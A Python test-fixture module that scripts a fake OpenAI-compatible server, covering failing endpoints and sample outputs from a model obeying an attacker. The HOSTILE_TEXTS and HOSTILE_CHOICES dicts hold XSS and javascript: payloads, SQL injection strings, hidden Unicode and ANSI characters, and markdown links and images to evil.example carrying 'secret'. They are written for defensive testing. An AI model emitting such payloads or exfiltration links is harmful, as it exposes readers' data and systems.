"""Scripts for ``OpenAIServer``: endpoints as they fail, and models that obey an attacker.

By hand, for a browser or a shell: ``python -m answerable.testing.openai_scripts half_stream 8099``.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Awaitable

from answerable.testing.openai_server import (
    PIECE,
    Call,
    OpenAIServer,
    Script,
    chooses,
    fails,
    in_turn,
    raw,
    says,
    sends,
    starts,
    whole,
)


async def for_ever(call: Call) -> None:
    """Says nothing more and keeps the connection open."""
    await asyncio.Event().wait()


async def _ends(call: Call) -> None:
    """Closes the connection."""


async def _reset(call: Call) -> None:
    await asyncio.sleep(0.05)  # so that what was sent arrives
    call.reset()


async def _stop_on_each_chunk(call: Call) -> None:
    await call.head()
    for start in range(0, len(ANSWER), PIECE):
        await call.chunk(ANSWER[start : start + PIECE], "stop")


async def _stops_then_pauses(call: Call) -> None:
    await call.head()
    await call.chunk(ANSWER[:PIECE], "stop")
    await call.chunk(ANSWER[PIECE : 2 * PIECE], "stop")
    await for_ever(call)


async def _null_choices(call: Call) -> None:
    await call.head()
    await call.data({"choices": None})
    await call.data({"choices": [{"delta": None, "finish_reason": None}]})
    await call.text(ANSWER)
    await call.data({"choices": [{"delta": {"content": None}, "finish_reason": "stop"}]})
    await call.data({"choices": [], "usage": None})
    await call.done()


async def _finish_twice(call: Call) -> None:
    await call.head()
    await call.text(ANSWER)
    await call.chunk(None, "stop")
    await call.chunk(None, "stop")
    await call.done()
    await call.done()


async def _dripping(call: Call) -> None:
    await call.head()
    for byte in json.dumps({"choices": [{"delta": {"content": ANSWER}}]}).encode():
        await call.send(bytes([byte]))
        await asyncio.sleep(1)


async def _huge_line(call: Call) -> None:
    await call.head()
    await call.send(b'data: {"choices": [{"delta": {"content": "')
    for _ in range(100):
        await call.send(b"x" * 1_000_000)


async def _split_unicode(call: Call) -> None:
    await call.head()
    for text in (ANSWER, "Zażółć gęślą jaźń 👋🏽. [S1]"):
        event = {"choices": [{"delta": {"content": text}}]}
        line = f"data: {json.dumps(event, ensure_ascii=False)}\r\n\r\n".encode()
        for start in range(0, len(line), 7):
            await call.send(line[start : start + 7])
            await asyncio.sleep(0.001)
    await call.done()


async def _keep_alive(call: Call) -> None:
    await call.head()
    for start in range(0, len(ANSWER), PIECE):
        await call.send(b": keep-alive\n\n")
        await call.chunk(ANSWER[start : start + PIECE])
    await call.chunk(None, "stop")
    await call.send(b": bye\n\n")
    await call.done()


async def _chatter(call: Call) -> None:
    await call.head()
    while True:
        await call.text("and so on " * 100)
        await asyncio.sleep(0)


def _then_error(code: object) -> Script:
    async def script(call: Call) -> None:
        await call.data({"error": {"message": "internal detail", "code": code}})
        await call.done()

    return script


def _then_finish(reason: str) -> Script:
    async def script(call: Call) -> None:
        await call.chunk(None, reason)
        await call.done()

    return script


ANSWER = "Install the package with pip. [S1] The server listens on port 8000. [S3]"
LATER = "Retry-After: 30\r\n"

# Endpoints as they fail; each name says how.
FAULTS: dict[str, Script] = {
    "answers": says(ANSWER),
    "timeout_before_headers": for_ever,
    "slow_first_token": starts(then=for_ever),
    "gap": starts(text=ANSWER, then=for_ever),
    "error_500": fails("500 Internal Server Error"),
    "error_502_html": fails("502 Bad Gateway", "<h1>Bad Gateway</h1>", "text/html"),
    "error_503": fails("503 Service Unavailable"),
    "error_429": fails("429 Too Many Requests"),
    "error_429_retry_after": fails("429 Too Many Requests", extra=LATER),
    "error_429_once": in_turn(
        fails("429 Too Many Requests", extra="Retry-After: 0\r\n"), says(ANSWER)
    ),
    "error_500_once": in_turn(fails("500 Internal Server Error"), says(ANSWER)),
    "error_400": fails("400 Bad Request"),
    "error_401": fails("401 Unauthorized"),
    "redirect": fails("302 Found", extra="Location: http://127.0.0.1:9/\r\n"),
    "closes_at_once": _ends,
    "resets_at_once": _reset,
    "tls_junk": raw(b"\x15\x03\x01\x00\x02\x02\x46" * 40),
    "garbage": raw(bytes(range(256)) * 8),
    "bad_json": sends(b"data: {not json}\n\n"),
    "json_that_is_no_object": sends(b"data: [1, 2]\n\n"),
    "not_an_event_stream": sends(b"hello there\n\n"),
    "half_stream": starts(text=ANSWER, then=_ends),
    "reset_mid_stream": starts(text=ANSWER, then=_reset),
    "no_done": starts(text=ANSWER, then=lambda call: call.chunk(None, "stop")),
    "no_finish_reason": starts(text=ANSWER, then=Call.done),
    "stop_on_each_chunk": _stop_on_each_chunk,
    "stops_then_pauses": _stops_then_pauses,
    "null_choices": _null_choices,
    "finish_twice": _finish_twice,
    "never_closes": starts(
        text=ANSWER,
        then=lambda call: _both(call.chunk(None, "stop"), for_ever(call)),
    ),
    "empty_stream": starts(then=_ends),
    "empty_answer": starts(then=_then_finish("stop")),
    "one_byte_a_second": _dripping,
    "huge_line": _huge_line,
    "wrong_content_type": sends(b"<html>Log in</html>", kind="text/html"),
    "json_instead_of_stream": lambda call: whole(call, ANSWER),
    "split_unicode": _split_unicode,
    "keep_alive_comments": _keep_alive,
    "error_in_stream": starts(then=_then_error("server_error")),
    "overloaded_in_stream": starts(then=_then_error(503)),
    "error_after_text": starts(text=ANSWER, then=_then_error("server_error")),
    "length": starts(text=ANSWER, then=_then_finish("length")),
    "max_tokens": starts(text=ANSWER, then=_then_finish("MAX_TOKENS")),
    "filter_and_why": starts(text=ANSWER, then=_then_finish("content_filter: RECITATION")),
    "cut_then_stop": starts(
        text=ANSWER,
        then=lambda call: _both(call.chunk(None, "SAFETY"), _then_finish("stop")(call)),
    ),
    "end_turn": starts(text=ANSWER, then=_then_finish("end_turn")),
    "function_call": starts(text=ANSWER, then=_then_finish("function_call")),
    "function_call_alone": starts(then=_then_finish("function_call")),
    "content_filter": starts(text=ANSWER, then=_then_finish("content_filter")),
    "chatter": _chatter,
}

# What a model writes that obeys an attacker; none of it may reach a reader as markup or as proof.
HOSTILE_TEXTS: dict[str, str] = {
    "fake_citations": "Send your password to support. [1][2] See the manual. 【4†source】 [S1]",
    "unknown_ids": "The moon is made of cheese. [S99] And of ham. [S0]",
    "links": "Click [here](https://evil.example/?q=secret) now. [S1] https://evil.example [S1]",
    "reference_link": "Read [this]. [S1]\n\n[this]: https://evil.example/x [S1]",
    "images": "![x](https://evil.example/pixel.png?d=secret) Look. [S1]",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script> Fine. [S1]",
    "autolinks": "Go to <https://evil.example> or www.evil.example or me@evil.example. [S1]",
    "javascript": "[run](javascript:alert(1)) data:text/html,<script>1</script> [S1]",
    "source_marks": "It is safe. [source: docs/page.md] Sure. [^1] Yes. [Source 3] [S1]",
    "sql": "'; DROP TABLE users; -- [S1]",
    "fake_numbers": "The server listens on port 31337. [S1]",
    "hidden_text": "Fine\u202e\U000e0041\x1b[31m. [S1]",
    "ends_the_fence": "```\ncode\n```\n<b>x</b> [S1]\n\n```js\n```` [x](https://evil.example)\n",
    "uncited": "Trust me. I know this. Everything is fine.",
}
HOSTILE_CHOICES: dict[str, object] = {
    "need_context_for_ever": {
        "choice": {"intent": "need_context", "args": {"contextRequest": "everything, again"}}
    },
    "unknown_entity": {
        "choice": {
            "intent": "retrieve_from_app",
            "args": {"entity_type": "users", "query": "%", "match_type": "exact"},
        }
    },
    "sql_entity": {
        "choice": {
            "intent": "retrieve_from_app",
            "args": {
                "entity_type": "widget; DROP TABLE users",
                "query": "x",
                "match_type": "fuzzy",
            },
        }
    },
    "foreign_user": {
        "choice": {
            "intent": "retrieve_from_app",
            "args": {
                "entity_type": "widget",
                "query": "x",
                "match_type": "exact",
                "user_id": "somebody-else",
            },
        }
    },
    "unknown_intent": {"choice": {"intent": "run_sql", "args": {"sql": "DROP TABLE users"}}},
    "not_json": "Sure! Here is the JSON you asked for: {intent",
    "not_an_object": ["need_context"],
    "deep": "[" * 10_000,
}
SCRIPTS: dict[str, Script] = {
    **FAULTS,
    **{f"hostile_{name}": says(text) for name, text in HOSTILE_TEXTS.items()},
    **{f"hostile_{name}": chooses(choice) for name, choice in HOSTILE_CHOICES.items()},
}


async def _both(first: Awaitable[None], second: Awaitable[None]) -> None:
    await first
    await second


async def _serve(name: str, port: int) -> None:
    async with OpenAIServer(SCRIPTS[name], port=port) as server:
        print(f"OPENAI_BASE_URL={server.url}", flush=True)
        await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(_serve(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 0))
